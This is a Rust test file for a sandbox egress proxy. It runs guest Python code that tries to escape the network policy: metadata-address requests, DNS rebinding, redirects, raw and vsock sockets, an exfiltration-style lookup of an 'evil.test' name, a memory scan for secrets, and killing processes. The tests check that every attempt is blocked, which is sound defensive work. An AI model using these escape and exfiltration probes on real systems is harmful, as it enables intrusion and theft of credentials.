//! The network of a jailed session, from inside: what the policy allows is reached by ordinary clients, and nothing else
//! is reached by anything.
//!
//! Answers to: issue 3's row of the egress proxy. Every name leads to the listeners of these tests, and their address may
//! be reached, so that whatever gets through is seen there.

#![allow(clippy::panic, reason = "tests may panic")]

#[path = "../../egress/tests/support/mod.rs"]
mod hosts;

use std::net::UdpSocket;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::PathBuf;
use std::sync::Arc;

use hosts::targets::{FORBIDDEN, PORTS};
use hosts::{Host, Loopback, Script, ok, tls};
use ringfence::{AuditTo, Engine, Outbound, Outcome, Policy, Session, Value, egress::Roots};

/// What every program here begins with.
const CLIENTS: &str = r#"
import json, os, socket, subprocess, sys, urllib.error, urllib.request
def show(url, **more):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, **more), timeout=30) as answer:
            return f'{answer.status} {answer.read().decode()}'
    except urllib.error.HTTPError as fault:
        return f'{fault.code} {fault.read().decode().strip()}'
    except urllib.error.URLError as fault:
        return f'{type(fault.reason).__name__}: {fault.reason}'
"#;

/// An engine of which every session reaches the hosts of this file, with its log.
struct Stage {
    engine: Engine,
    script: Arc<Script>,
    folder: tempfile::TempDir,
}

impl Stage {
    fn new() -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let script = Arc::new(Script::default());
        let outbound = Outbound {
            resolver: Arc::clone(&script) as _,
            hooks: Arc::new(Loopback { most: u64::MAX }),
            roots: Roots::Pem(tls::authority().pem.clone()),
        };
        let builder = Engine::builder().worker(env!("CARGO_BIN_EXE_ringfence")).warm(1).outbound(outbound);
        let engine = builder.audit(AuditTo::File(folder.path().join("audit.jsonl"))).build().expect("an engine");
        Self { engine, script, folder }
    }

    fn file(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// A session under these rules; `more` is further lines of the policy.
    fn session(&self, rules: &[String], more: &str) -> Session {
        let rules = rules.join(", ");
        let text = format!(
            "version = 1\n[isolation]\ntiers = [\"process\"]\n[limits]\nwall = \"60s\"\ncpu = \"30s\"\n\
             memory = \"192MiB\"\n[filesystem]\nworkspace = \"8MiB\"\n[network]\nallow = [{rules}]\n{more}"
        );
        self.engine.session_with(Policy::parse(&text, "test").expect("a good policy")).open().expect("granted")
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.file("audit.jsonl")).expect("there is a log")
    }

    /// How many records of this event the log holds.
    fn count(&self, event: &str) -> usize {
        self.log().matches(&format!("\"event\":\"{event}\"")).count()
    }
}

fn rule(host: &str, ports: &[u16], methods: &str, paths: &str) -> String {
    format!("{{ host = \"{host}\", ports = {ports:?}, methods = [\"{methods}\"], paths = [\"{paths}\"] }}")
}

fn open(host: &str, port: u16) -> String {
    rule(host, &[port], "*", "/*")
}

async fn run(session: &mut Session, code: &str) -> Outcome {
    session.run(format!("{CLIENTS}{code}")).await.expect("recorded")
}

/// Runs the program, whose value is a list of texts.
async fn list(session: &mut Session, code: &str) -> Vec<String> {
    let outcome = run(session, code).await;
    let Some(Value::List(items)) = outcome.value else { panic!("{:?} {:?}", outcome.reason, outcome.exception) };
    let text = |item| if let Value::Str(text) = item { text } else { format!("{item:?}") };
    items.into_iter().map(text).collect()
}

fn json(value: impl serde::Serialize) -> String {
    serde_json::to_string(&value).expect("plain")
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_allowed_is_reached_by_ordinary_clients() {
    let (plain, secure) = (Host::plain(ok).await, Host::secure("a.test", ok).await);
    let stage = Stage::new();
    let mut session = stage.session(&[rule("a.test", &[plain.port, secure.port], "GET", "/v1/*")], "");
    let (p, s) = (plain.port, secure.port);
    let code = format!(
        "child = 'import urllib.request; print(urllib.request.urlopen(\"https://a.test:{s}/v1/child\").read().decode())'\n\
         [show('http://a.test:{p}/v1/x'), show('https://a.test:{s}/v1/x'), show('http://a.test:{p}/v2/x'),\n\
          show('https://a.test:{s}/v1/x', method='DELETE'), show('http://b.test:{p}/v1/x'), show('https://b.test:{s}/'),\n\
          subprocess.run([sys.executable, '-c', child], capture_output=True, text=True).stdout]"
    );
    let want = [
        "200 hello".to_owned(),
        "200 hello".to_owned(),
        format!("403 ringfence: policy does not allow path `/v2/x` at `a.test:{p}`; add it to the rule's `paths`"),
        format!("403 ringfence: policy does not allow method `DELETE` at `a.test:{s}`; add it to the rule's `methods`"),
        format!("403 ringfence: policy does not allow `b.test:{p}`; add the host and port to `network.allow`"),
        "OSError: Tunnel connection failed: 403 Forbidden".to_owned(),
        "hello\n".to_owned(),
    ];
    assert_eq!(list(&mut session, &code).await, want);
    assert_eq!((plain.accepted(), secure.accepted()), (1, 3), "the refused method came as far as TLS");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tunnel_that_nobody_looks_into_is_verified_inside() {
    let (good, other) = (Host::secure("a.test", ok).await, Host::secure("other.test", ok).await);
    let stage = Stage::new();
    // One rule that opens TLS beside them, so that both kinds of certificate are trusted.
    let rules = [open("a.test", good.port), open("b.test", other.port), rule("c.test", &[443], "GET", "/*")];
    let mut session = stage.session(&rules, "");
    let code = format!("[show('https://a.test:{}/'), show('https://b.test:{}/')[:20]]", good.port, other.port);
    assert_eq!(list(&mut session, &code).await, ["200 hello", "SSLCertVerificationE"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_spelling_of_a_forbidden_target_reaches_a_listener() {
    let host = Host::plain(ok).await;
    let port = host.port;
    let stage = Stage::new();
    let mut session = stage.session(&[open("allowed.test", port), open("*.wild.test", port)], "");
    let ports = PORTS.iter().map(|text| format!("allowed.test:{text}"));
    let targets = FORBIDDEN.iter().map(|text| (*text).to_owned()).chain(ports);
    let targets: Vec<String> = targets.map(|target| target.replace("{p}", &port.to_string())).collect();
    let code = format!(
        r#"
def status(text):
    with socket.create_connection(('127.0.0.1', 3128), 30) as proxy:
        proxy.sendall(text.encode())
        return proxy.makefile('rb').readline().split(b' ')[1].decode()
def opened(url):
    try:
        # Some spellings it makes plain itself, and then asks for what is allowed.
        name, _, port = urllib.request.Request(url).host.partition(':')
        return 'made plain' if (name, port.lstrip('+0')) == ('allowed.test', '{port}') else show(url)
    except Exception as fault:
        return type(fault).__name__
wrong = []
for target in {targets}:
    for text in (f'CONNECT {{target}} HTTP/1.1\r\nHost: {{target}}\r\n\r\n',
                 f'GET http://{{target}}/ HTTP/1.1\r\nHost: {{target}}\r\n\r\n',
                 f'GET http://{{target}}/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n'):
        if status(text) not in ('400', '403'):
            wrong.append(text)
    wrong += [url for url in (f'http://{{target}}/', f'https://{{target}}/') if opened(url).startswith('200')]
wrong
"#,
        targets = json(&targets)
    );
    assert_eq!(list(&mut session, &code).await, Vec::<String>::new());
    assert_eq!(host.accepted(), 0, "a forbidden target was reached: {:?}", host.requests());
    let asked = stage.script.asked.lock().expect("whole").clone();
    assert_eq!(asked, Vec::<String>::new(), "no forbidden name is even resolved");
    assert!(stage.count("connection_denied") >= 3 * targets.len(), "each is recorded");
    let code =
        format!("[show(f'http://{{name}}:{port}/') for name in ('allowed.test', 'ALLOWED.test', 'a.wild.test')]");
    assert_eq!(list(&mut session, &code).await, ["200 hello"; 3], "the listener is there");
}

#[tokio::test(flavor = "multi_thread")]
async fn there_is_no_way_around_the_proxy() {
    let host = Host::plain(ok).await;
    let udp = UdpSocket::bind(("127.0.0.1", 0)).expect("a port");
    udp.set_nonblocking(true).expect("set");
    let name = format!("ringfence-test-{}", std::process::id());
    let abstract_one = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).expect("a name")).expect("bound");
    abstract_one.set_nonblocking(true).expect("set");
    let stage = Stage::new();
    let mut session = stage.session(&[open("allowed.test", host.port)], "");
    let code = format!(
        r#"
tcp, udp = {tcp}, {udp}
def connected(address, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as there:
        there.settimeout(5)
        there.connect(address)
def datagram(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as there:
        there.sendto(b'out', address)
def fast(address):
    with socket.socket() as there:
        there.settimeout(5)
        there.sendto(b'out', socket.MSG_FASTOPEN, address)
def made(*kind):
    socket.socket(*kind).close()
def listening(family, address):
    with socket.socket(family) as there:
        there.bind(address)
        there.listen()
ways = {{
    'loopback': lambda: connected(('127.0.0.1', tcp)),
    'any address': lambda: connected(('0.0.0.0', tcp)),
    'IPv6': lambda: connected(('::1', tcp), socket.AF_INET6),
    'IPv4 in IPv6': lambda: connected(('::ffff:127.0.0.1', tcp), socket.AF_INET6),
    'another port': lambda: connected(('127.0.0.1', 22)),
    'the world': lambda: connected(('1.1.1.1', 443)),
    'metadata': lambda: connected(('169.254.169.254', 80)),
    'link-local': lambda: connected(('fe80::1', tcp, 0, 1), socket.AF_INET6),
    'DNS over TCP': lambda: connected(('8.8.8.8', 53)),
    'fast open': lambda: fast(('127.0.0.1', tcp)),
    'UDP': lambda: datagram(('127.0.0.1', udp)),
    'UDP over IPv6': lambda: datagram(('::1', udp), socket.AF_INET6),
    'DNS': lambda: datagram(('8.8.8.8', 53)),
    'QUIC': lambda: datagram(('127.0.0.1', 443)),
    'a name': lambda: socket.getaddrinfo('c2VjcmV0.evil.test', 443),
    'an allowed name': lambda: socket.gethostbyname('allowed.test'),
    'ping': lambda: made(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    'raw': lambda: made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    'SCTP': lambda: made(socket.AF_INET, socket.SOCK_STREAM, 132),
    'multipath TCP': lambda: made(socket.AF_INET, socket.SOCK_STREAM, 262),
    'packets': lambda: made(17, socket.SOCK_RAW),
    'netlink': lambda: made(16, socket.SOCK_RAW),
    'the hypervisor': lambda: made(40, socket.SOCK_STREAM),
    'a socket of the host': lambda: connected('\0{name}', socket.AF_UNIX),
}}
through = []
for way, go in ways.items():
    try:
        go()
        through.append(way)
    except OSError:
        pass
through
"#,
        tcp = host.port,
        udp = udp.local_addr().expect("bound").port()
    );
    assert_eq!(list(&mut session, &code).await, Vec::<String>::new());
    assert_eq!(host.accepted(), 0);
    assert!(udp.recv(&mut [0; 16]).is_err(), "a datagram came through");
    assert!(abstract_one.accept().is_err(), "a socket of the host was reached");
    assert_eq!(*stage.script.asked.lock().expect("whole"), Vec::<String>::new());
    let proxy = format!("[show('http://allowed.test:{}/')]", host.port);
    assert_eq!(list(&mut session, &proxy).await, ["200 hello"], "the listener is there");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_change_and_redirects_lead_nowhere_else() {
    let secret_one = Host::plain(ok).await;
    let host = Host::plain(|head| {
        let to = head.lines().next()?.split(' ').nth(1)?.strip_prefix("/to/")?.replace("%2F", "/");
        let head = "HTTP/1.1 302 Found\r\nConnection: close\r\nContent-Length: 0\r\n";
        Some(format!("{head}Location: {to}\r\n\r\n"))
    })
    .await;
    let plain = Host::plain(ok).await;
    let stage = Stage::new();
    stage.script.set("rebind.test", &[&["127.0.0.1"], &["169.254.169.254"]]);
    stage.script.set("mixed.test", &[&["127.0.0.1", "10.0.0.1"]]);
    let names = ["rebind.test", "mixed.test"].map(|name| open(name, plain.port));
    let mut session = stage.session(&[open("a.test", host.port), names[0].clone(), names[1].clone()], "");
    let public = "leads to an address that is not public; the proxy's owner may allow it";
    let (h, p, s) = (host.port, plain.port, secret_one.port);
    let code = format!(
        "def to(where): return show('http://a.test:{h}/to/' + where.replace('/', '%2F'))\n\
         [show('http://rebind.test:{p}/'), show('http://rebind.test:{p}/'), show('http://mixed.test:{p}/'),\n\
          to('http://169.254.169.254/latest/meta-data/'), to('http://[::ffff:127.0.0.1]:{s}/'),\n\
          to('http://b.test:{s}/'), to('http://127.0.0.1:{s}/').split(':')[0]]"
    );
    let refused = |target: &str| {
        format!("403 ringfence: policy does not allow `{target}`; add the host and port to `network.allow`")
    };
    let found = list(&mut session, &code).await;
    let want = [
        "200 hello".to_owned(),
        format!("403 ringfence: host `rebind.test` {public}"),
        format!("403 ringfence: host `mixed.test` {public}"),
        refused("169.254.169.254:80"),
    ];
    assert_eq!(found[..4], want);
    assert!(found[4].starts_with("403 ringfence: "), "{found:?}");
    assert_eq!(found[5], refused(&format!("b.test:{s}")));
    // What needs no proxy goes to the session's own loopback, where nobody is.
    assert!(["PermissionError", "ConnectionRefusedError"].contains(&found[6].as_str()), "{found:?}");
    assert_eq!((plain.accepted(), secret_one.accepted()), (1, 0));
}

/// Looks for a pattern in all memory, files and variables that the program can reach. A pattern does not match itself.
const SEARCH: &str = r#"
import re
def search(pattern):
    pattern, places = re.compile(pattern.encode()), []
    def look(place, data):
        if pattern.search(data):
            places.append(place)
    look('environment', repr(dict(os.environ)).encode())
    for folder in ('/tmp', '/run', '/etc', '/workspace', '/dev/shm', '/proc'):
        for at, folders, files in os.walk(folder):
            folders[:] = [name for name in folders if name not in ('fd', 'map_files', 'task')]
            for name in files:
                try:
                    with open(os.path.join(at, name), 'rb') as file:
                        look(os.path.join(at, name), file.read(1 << 22))
                except OSError:
                    pass
    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
        for line in maps:
            at, last = (int(edge, 16) for edge in line.split(' ')[0].split('-'))
            while line.split(' ')[1].startswith('r') and at < last:
                try:
                    memory.seek(at)
                    look('memory', memory.read(min(1 << 20, last - at)))
                except (OSError, OverflowError, ValueError):
                    break
                at += (1 << 20) - 64
    return sorted(set(places))
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_is_nowhere_inside() {
    let host = Host::secure("a.test", ok).await;
    let stage = Stage::new();
    let canary = "canary-4f0c9d61b7";
    std::fs::write(stage.file("key"), format!("{canary}\n")).expect("written");
    let secrets = format!(
        "[secrets.key]\nfrom = {{ file = {file:?} }}\ninject = {{ host = \"a.test\", paths = [\"/v1/*\"], header = \
         \"authorization\", format = \"Bearer {{}}\" }}\n[secrets.folder]\nfrom = {{ env = \"CARGO_MANIFEST_DIR\" }}\n\
         inject = {{ host = \"a.test\", paths = [\"/v1/*\"], header = \"x-folder\" }}\n",
        file = stage.file("key")
    );
    let mut session = stage.session(&[rule("a.test", &[host.port], "*", "/*")], &secrets);
    let port = host.port;
    let code = format!(
        "{SEARCH}\nmarker = 'seen-' + 'by-the-search'\nopen('/tmp/marker', 'w').write(marker)\n\
         [show('https://a.test:{port}/v1/x'), show('https://a.test:{port}/v2/x'), search('[s]een-by-the-search'),\n\
          search('[c]{}')]",
        &canary[1..]
    );
    let outcome = run(&mut session, &code).await;
    let heads = host.heads.lock().expect("whole").clone();
    assert!(heads[0].contains(&format!("authorization: Bearer {canary}\r\n")), "{heads:?}");
    let folder = std::env::var("CARGO_MANIFEST_DIR").expect("the tests' runner says so");
    assert!(heads[0].contains(&format!("x-folder: {folder}\r\n")), "{heads:?}");
    assert!(!heads[1].contains(canary), "the path is not the secret's: {heads:?}");
    let Some(Value::List(found)) = &outcome.value else { panic!("{:?} {:?}", outcome.reason, outcome.exception) };
    let places = |list: &[&str]| Value::List(list.iter().map(|place| Value::from(*place)).collect());
    let hello = Value::from("200 hello");
    let want = [hello.clone(), hello, places(&["/tmp/marker", "memory"]), places(&[])];
    assert_eq!(*found, want);
    assert!(!format!("{outcome:?}").contains(canary), "it is in the outcome");
    let log = stage.log();
    assert!(!log.contains(canary), "it is in the log");
    assert!(
        log.contains("\"secrets\":[\"folder\",\"key\"]") || log.contains("\"secrets\":[\"key\",\"folder\"]"),
        "{log}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_guest_harms_no_network_but_its_own() {
    let host = Host::plain(ok).await;
    let stage = Stage::new();
    let rules = [open("a.test", host.port)];
    let (mut one, mut two) = (stage.session(&rules, ""), stage.session(&rules, ""));
    let ask = format!("[show('http://a.test:{}/')]", host.port);
    assert_eq!(list(&mut two, &ask).await, ["200 hello"]);
    // It ends whatever it can, and opens more connections than it may.
    let harm = "import signal\nfor pid in [1, *range(3, 50)]:\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass\n\
                kept = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(40)]\n[str(len(kept))]";
    assert_eq!(list(&mut one, harm).await, ["40"]);
    assert_eq!(list(&mut one, &ask).await, ["200 hello"], "its way out is still there");
    assert_eq!(list(&mut two, &ask).await, ["200 hello"]);
    drop(one);
    assert_eq!(list(&mut two, &ask).await, ["200 hello"]);
}
